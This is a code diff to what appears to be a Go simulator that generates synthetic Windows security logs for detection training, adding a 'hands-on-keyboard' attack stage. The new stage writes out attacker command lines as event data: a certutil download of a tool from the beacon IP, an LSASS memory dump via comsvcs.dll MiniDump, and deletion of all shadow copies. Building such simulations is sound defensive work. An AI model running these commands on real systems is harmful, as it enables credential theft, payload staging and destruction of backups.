@@ -37,6 +37,9 @@ func (w *world) attackPlans() []attackPlan {
 		{"malicious-macro", 7 * time.Hour, 0,
 			"Sysmon 1 on " + beaconHost + ": WINWORD.EXE starting powershell.exe -enc, then Sysmon 3 from that powershell to " + beaconIP + ":443 every 5 minutes (a beacon)",
 			w.maliciousMacro},
+		{"hands-on-keyboard", 7*time.Hour + 40*time.Minute, 0,
+			"on " + beaconHost + ", the implant's PowerShell runs whoami /priv, a certutil -urlcache download, an LSASS dump with rundll32 comsvcs.dll MiniDump and vssadmin delete shadows",
+			w.handsOnKeyboard},
 		{"new-local-admin", 9 * time.Hour, 0,
 			"adm_bob RDP logon to fs-01 from " + beaconHost + ", 4720 user " + newAdmin + " created, 4722 enabled, 4732 added to Administrators",
 			w.newLocalAdmin},
@@ -165,6 +168,27 @@ func (w *world) maliciousMacro(at time.Time, _ int) {
 		"powershell.exe -nop -w hidden -enc "+encodedCommand(script), ex.user, word)
 	w.resolve(h, t.Add(2*time.Second), ps, beaconDomain, beaconIP)
 	w.beacon(h, t.Add(2100*time.Millisecond), ps, 0)
+}
+
+// handsOnKeyboard: the attacker works through the implant on the
+// compromised workstation: discovery, tool download with certutil,
+// credential dumping from LSASS, and removing shadow copies.
+func (w *world) handsOnKeyboard(at time.Time, _ int) {
+	h := w.co.host(beaconHost)
+	w.attackStarted("hands-on-keyboard", at, "whoami /priv, certutil download, comsvcs MiniDump of lsass, vssadmin delete shadows on "+h.name,
+		"host", h.name)
+	ex := w.explorer(h, at)
+	ps := w.newProc(h, at, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+		`powershell.exe -nop -w hidden`, ex.user, ex)
+	steps := []struct{ image, cmd string }{
+		{`C:\Windows\System32\whoami.exe`, `"C:\Windows\system32\whoami.exe" /priv`},
+		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://` + beaconIP + `/tools/rc.exe C:\Users\Public\rc.exe`},
+		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full`},
+		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`},
+	}
+	for i, st := range steps {
+		w.newProc(h, at.Add(time.Duration(i+1)*40*time.Second), st.image, st.cmd, ex.user, ps)
+	}
 }
 
 // beacon schedules the implant's regular connection, forever.
